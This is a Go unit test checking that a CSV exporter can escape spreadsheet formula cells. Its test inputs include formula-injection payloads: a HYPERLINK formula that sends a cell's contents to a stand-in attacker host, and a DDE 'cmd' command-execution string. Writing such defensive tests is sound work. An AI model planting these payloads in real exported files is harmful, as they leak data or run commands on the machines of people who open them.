package element

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// Element text is the document author's: a paragraph reading =HYPERLINK(…) is a live formula
// when the CSV is opened in a spreadsheet. By default the reference's bytes are kept; with
// EscapeFormulas every text cell a spreadsheet would evaluate gets a leading quote, and
// nothing else changes.
func TestAttackCSVFormulaCells(t *testing.T) {
	texts := []struct {
		text    string
		formula bool
	}{
		{`=HYPERLINK("http://evil.example/?"&A1,"click")`, true},
		{`=cmd|' /C calc'!A0`, true},
		{"+SUM(1,2)", true},
		{"@SUM(1,2)", true},
		{"-2+3", true},
		{"-5% year on year", true}, // a spreadsheet evaluates it too: escaped like the rest
		{"- a list dash", true},
		{"\t=1+2", true},
		{"\r=1+2", true},
		{"Plain text = 1 + 2", false},
		{"'already quoted", false},
		{"", false},
	}
	page := 3
	var elems []Element
	for _, tc := range texts {
		elems = append(elems, Element{Type: NarrativeText, ID: "id", Text: tc.text,
			Metadata: Metadata{Filename: "=evil.docx", PageNumber: &page}})
	}
	for _, escape := range []bool{false, true} {
		b, err := MarshalCSVWith(elems, 0, CSVOptions{EscapeFormulas: escape})
		if err != nil {
			t.Fatal(err)
		}
		rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
		if err != nil {
			t.Fatalf("escape=%v: %v\n%s", escape, err, b)
		}
		col := map[string]int{}
		for i, c := range rows[0] {
			col[c] = i
		}
		for i, tc := range texts {
			row := rows[i+1]
			want, wantName := tc.text, "=evil.docx"
			if escape && tc.formula {
				want = "'" + tc.text
			}
			if escape {
				wantName = "'=evil.docx"
			}
			if got := row[col["text"]]; got != want {
				t.Errorf("escape=%v: text %q, want %q", escape, got, want)
			}
			if got := row[col["filename"]]; got != wantName {
				t.Errorf("escape=%v: filename %q, want %q", escape, got, wantName)
			}
			if got := row[col["page_number"]]; got != "3" {
				t.Errorf("escape=%v: page_number %q, numbers are never quoted", escape, got)
			}
		}
	}
	// Off is the reference's bytes, whatever the text.
	if a, b := MarshalCSV(elems), must(MarshalCSVWith(elems, 0, CSVOptions{})); !bytes.Equal(a, b) {
		t.Error("MarshalCSVWith without options differs from MarshalCSV")
	}
}

func must(b []byte, err error) []byte {
	if err != nil {
		panic(err)
	}
	return b
}
